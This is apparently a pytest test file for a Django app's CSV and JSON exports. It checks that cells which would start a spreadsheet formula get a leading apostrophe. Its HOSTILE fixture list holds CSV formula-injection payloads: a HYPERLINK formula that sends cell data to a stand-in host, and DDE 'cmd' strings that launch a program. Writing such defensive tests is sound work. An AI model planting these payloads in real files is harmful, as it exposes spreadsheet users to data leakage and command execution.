"""Downloads are safe to open: a CSV cell never starts a spreadsheet formula, and JSON keeps the text exact."""

import csv
import io
import json
import urllib.request
from decimal import Decimal

import pytest

from tests.factories import ArticleFactory, ClaimFactory, SourceFactory

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rReturned",
]


def download(url):
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.read().decode()


@pytest.fixture
def hostile_articles():
    publisher = SourceFactory(name="=Publisher()")
    for number, text in enumerate(HOSTILE):
        article = ArticleFactory(title=text, lead=text, publisher=publisher, slug=f"hostile-{number}")
        ClaimFactory(article=article, statement=text, quantity_value=Decimal("-12.5"), quantity_unit="@units")


def test_csv_cells_that_would_start_a_formula_get_a_leading_apostrophe(live_server, hostile_articles):
    rows = list(csv.DictReader(io.StringIO(download(f"{live_server.url}/articles/?format=csv"), newline="")))

    assert sorted(row["title"] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert sorted(row["lead"] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert {row["publisher"] for row in rows} == {"'=Publisher()"}


def test_claim_csv_is_neutralised_too_but_plain_numbers_stay_numbers(live_server, hostile_articles):
    rows = list(csv.DictReader(io.StringIO(download(f"{live_server.url}/claims/?format=csv"), newline="")))

    assert sorted(row["statement"] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert {row["quantity_value"] for row in rows} == {"-12.5"}
    assert {row["quantity_unit"] for row in rows} == {"'@units"}
    assert all(not cell or cell[0] not in "=+-@\t\r" or cell == "-12.5" for row in rows for cell in row.values())


@pytest.mark.parametrize("export_format", ["json", "jsonl"])
def test_json_keeps_the_text_exact(live_server, hostile_articles, export_format):
    text = download(f"{live_server.url}/articles/?format={export_format}")
    records = json.loads(text) if export_format == "json" else [json.loads(line) for line in text.splitlines()]

    assert sorted(record["title"] for record in records) == sorted(HOSTILE)
    assert {record["publisher"] for record in records} == {"=Publisher()"}
